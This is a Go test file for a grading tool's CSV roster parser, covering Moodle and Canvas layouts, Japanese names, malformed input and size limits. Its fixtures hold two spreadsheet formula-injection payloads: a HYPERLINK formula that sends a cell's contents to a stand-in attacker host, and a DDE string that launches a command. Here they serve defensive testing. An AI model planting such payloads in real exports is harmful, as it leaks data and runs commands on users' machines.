package grader

import (
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestReadRosterWithJapaneseNames(t *testing.T) {
	ro, err := ReadRoster(filepath.Join(lmsDir, "roster_moodle.csv"))
	require.NoError(t, err)
	want := []RosterEntry{
		{ID: "s2024001", Name: "山田 太郎", Email: "taro.yamada@example.ac.jp", Submission: "100001", Line: 2},
		{ID: "s2024002", Name: "鈴木 花子", Email: "hanako.suzuki@example.ac.jp", Submission: "100002", Line: 3},
		{ID: "s2024003", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Email: "evil@example.ac.jp", Submission: "100003", Line: 4},
		{ID: "s2024004", Name: "佐藤 次郎", Email: "jiro.sato@example.ac.jp", Submission: "100004", Line: 5},
	}
	assert.Equal(t, want, ro.Entries)
	e, ok := ro.ByKey("100002")
	require.True(t, ok)
	assert.Equal(t, "s2024002", e.ID)
	_, ok = ro.ByKey("s2024002")
	assert.False(t, ok, "the key is the submission column")
	e, ok = ro.ByID("s2024004")
	require.True(t, ok)
	assert.Equal(t, "佐藤 次郎", e.Name)

	// Canvas's roster leaves the submission column empty: the id is the key.
	canvas, err := ReadRoster(filepath.Join(lmsDir, "roster_canvas.csv"))
	require.NoError(t, err)
	require.Len(t, canvas.Entries, 4)
	for _, e := range canvas.Entries {
		assert.Equal(t, e.ID, e.Submission)
	}
	assert.Equal(t, `@SUM(1+1)*cmd|' /C calc'!A0`, canvas.Entries[2].Name)
	assert.NotEqual(t, ro.Digest(), canvas.Digest())
	assert.Len(t, ro.Digest(), 16)
}

func TestParseRosterLayouts(t *testing.T) {
	tests := []struct {
		name, csv string
		want      []RosterEntry
	}{
		{"a BOM, columns in another order and case, extra columns, spaces",
			"\uFEFFSubmission, Name ,ID,Email,学部\n 100001 , 山田 太郎 , s1 , t@example.jp ,理学部\n",
			[]RosterEntry{{ID: "s1", Name: "山田 太郎", Email: "t@example.jp", Submission: "100001", Line: 2}}},
		{"CRLF line ends, a quoted comma, blank lines and an empty email",
			"id,name,email,submission\r\n\r\ns1,\"Yamada, Taro\",,k1\r\ns2,花子,,\r\n",
			[]RosterEntry{{ID: "s1", Name: "Yamada, Taro", Submission: "k1", Line: 3}, {ID: "s2", Name: "花子", Submission: "s2", Line: 4}}},
		{"a header alone", "id,name,email,submission\n", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ro, err := ParseRoster(strings.NewReader(tc.csv), "roster.csv")
			require.NoError(t, err)
			assert.Equal(t, tc.want, ro.Entries)
		})
	}
}

func TestParseRosterRefusesBadInput(t *testing.T) {
	const header = "id,name,email,submission\n"
	tests := []struct {
		name, csv, err string
	}{
		{"empty", "", "empty; it needs the header id,name,email,submission"},
		{"a column missing", "id,name,email\ns1,a,b\n", `has no column "submission"`},
		{"a bad header", "student,name,mail\n", `has no column "id"`},
		{"a column twice", "id,name,email,submission,ID\n", `names column "id" twice`},
		{"a short row", header + "s1,a,b\n", "record on line 2: wrong number of fields"},
		{"a stray quote", header + "s1,\"a,b,c\n", "line 2"},
		{"an empty id", header + ",a,b,c\n", "line 2: empty id"},
		{"a duplicate id", header + "s1,a,,k1\ns2,b,,k2\ns1,c,,k3\n", `line 4: id "s1" is already on line 2`},
		{"a duplicate key", header + "s1,a,,k1\ns2,b,,k1\n", `line 3: submission "k1" is already on line 2`},
		{"an id that defaults into another's key", header + "s1,a,,s2\ns2,b,,\n", `line 3: submission "s2" is already on line 2`},
		{"a formula id", header + "=1+1,a,,k\n", `line 2: id "=1+1" starts with '='`},
		{"a formula key", header + "s1,a,,@SUM(A1)\n", `line 2: submission "@SUM(A1)" starts with '@'`},
		{"a full-width formula id", header + "＝1+1,a,,k\n", `starts with '＝'`},
		{"a control character", header + "s1,a,\"x\ty@example.jp\",k\n", "email \"x\\ty@example.jp\" holds a control character (U+0009)"},
		{"Shift_JIS, as Japanese Excel saves", header + "s1,\x8eR\x93c,,k\n", `line 2 is not UTF-8; save it as "CSV UTF-8"`},
		{"a huge cell", header + "s1," + strings.Repeat("a", 1001) + ",,k\n", "line 2: a cell is longer than 1000 bytes"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseRoster(strings.NewReader(tc.csv), "roster.csv")
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.err)
			assert.Contains(t, err.Error(), "roster roster.csv")
		})
	}
	t.Run("too large", func(t *testing.T) {
		_, err := ParseRoster(strings.NewReader(header+strings.Repeat("x", maxRosterBytes)), "big.csv")
		require.Error(t, err)
		assert.Contains(t, err.Error(), "larger than 16 MiB")
	})
	t.Run("too many rows", func(t *testing.T) {
		var b strings.Builder
		b.WriteString(header)
		for i := range maxRosterRows + 1 {
			b.WriteString("s" + strconv.Itoa(i) + ",,,\n")
		}
		_, err := ParseRoster(strings.NewReader(b.String()), "many.csv")
		require.Error(t, err)
		assert.Contains(t, err.Error(), "more than 100000 rows")
	})
	t.Run("a missing file", func(t *testing.T) {
		_, err := ReadRoster(filepath.Join(t.TempDir(), "roster.csv"))
		require.Error(t, err)
		assert.Contains(t, err.Error(), "no such file")
	})
}
